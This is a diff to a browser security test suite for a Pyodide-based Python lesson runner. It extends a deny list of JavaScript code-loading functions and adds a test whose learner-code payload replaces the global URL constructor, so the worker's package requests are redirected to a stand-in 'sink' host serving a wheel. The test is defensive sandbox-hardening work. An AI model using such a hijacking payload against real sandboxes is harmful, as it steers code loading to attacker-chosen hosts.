@@ -175,6 +175,8 @@ from pyodide.ffi import JsProxy
 DENY = {deny}
 seen = js.Set.new()
 queue = [(G, "self"), (pyodide_js, "pyodide_js"), (js.navigator, "navigator")]
+# and every JavaScript object Python's module table holds (a module imported from the API object before the lockdown)
+queue += [(m, f"sys.modules[{{n!r}}]") for n, m in list(sys.modules.items()) if isinstance(m, JsProxy) and n not in ("js", "pyodide_js")]
 found = []
 while queue and seen.size < {scan}:
     o, path = queue.pop()
@@ -193,7 +195,7 @@ while queue and seen.size < {scan}:
         except Exception:
             continue
         native = "[native code]" in str(getter) or (isinstance(value, JsProxy) and callable(value) and "[native code]" in str(value))
-        if key in DENY and (native or key.startswith("_") or key in ("loadPackage", "loadScript")):
+        if key in DENY and (native or key.startswith("_") or key.startswith("load")):
             found.append(path + "." + key)
         queue.append((value, path + "." + key))
     queue.append((proto(o), path + ".[[Prototype]]"))
@@ -252,6 +254,9 @@ DENY = sorted(
         "createImageBitmap",
         "loadPackage",
         "loadScript",
+        "loadBinaryFile",
+        "loadDynlib",
+        "loadDynlibsFromPackage",
         "_api",
         "_module",
     }
@@ -470,6 +475,59 @@ def test_code_run_while_the_page_loads_waits_for_the_lockdown(browser, plain_ser
         assert_all_refused(out)
         assert "leaked: None" in leaked(page)
         odd = foreign_or_hidden(page, 0, graders=1)  # the page's grader worker loads the lesson's files once
+        assert sink.hits == [] and odd == [], (sink.hits, odd)
+    finally:
+        context.close()
+
+
+#: Run while the worker still loads its packages (a Run starts once Python is usable, before numpy is in): replaces
+#: the globals that loading code reads after the run (every `new URL(...)` now names the sink), then holds the thread
+#: long enough for the worker's pending requests to answer, so its loading goes on the moment the run ends. It never
+#: names the array package (a Run that does waits until everything is loaded).
+STEER = r"""
+import js
+from pyodide.ffi import create_proxy, to_js
+
+def to_object(d, _to_js=to_js, _js=js):
+    return _to_js(d, dict_converter=_js.Object.fromEntries)
+
+def construct(target, args, new_target, _object=to_object, _sink="{sink}"):
+    # self-contained: the runner clears this module's namespace when the run ends, before this is called
+    return _object({{"href": _sink + "/steered.whl", "pathname": "/steered.whl"}})
+
+js.URL = js.Proxy.new(js.URL, to_object({{"construct": create_proxy(construct)}}))
+start = js.performance.now()
+while js.performance.now() - start < 3000:
+    pass
+print("steered")
+"""
+
+
+def test_code_run_while_python_loads_cannot_steer_the_workers_own_requests(browser, plain_server, sink):
+    """A Run pressed while the page loads starts once Python is usable, while the learner worker still loads numpy
+    (and the lesson's wheels) with the fetch it kept. That loading reads globals learner code can replace (URL,
+    DataView, ...): with `URL` replaced, the worker's own next request went to another origin. As a class: once
+    learner code has run in a worker, the worker's kept fetch refuses every request."""
+    context = browser.new_context(service_workers="block")  # the plain host's first visit: the lockdown alone holds
+    urls = []
+    context.on("request", lambda r: urls.append(r.url))
+    page = context.new_page()
+    page.set_default_timeout(120_000)
+    page.urls, page.server = urls, plain_server
+    try:
+        open_lesson(page, plain_server, ready=False)
+        page.wait_for_selector('body[data-editors="ready"]', state="attached")
+        assert page.get_attribute("body", "data-runtime") != "ready" or pytest.skip(
+            "Python was ready before the editors"
+        )
+        replace_code(page, "1", STEER.format(sink=sink.origin))
+        section(page, "1").locator('button[data-action="run"]').first.click()
+        poll(page, "() => document.querySelector('[data-checkpoint=\"1\"]').dataset.state === 'idle'")
+        assert "steered" in section(page, "1").locator("[data-output]").inner_text()
+        wait_ready(page)  # later workers booted: the steered one had all that time to send anything
+        state, text, _, _ = check(page, REFERENCE)
+        assert state == "pass", text  # the page goes on as ever
+        odd = foreign_or_hidden(page, 0, graders=1)
         assert sink.hits == [] and odd == [], (sink.hits, odd)
     finally:
         context.close()
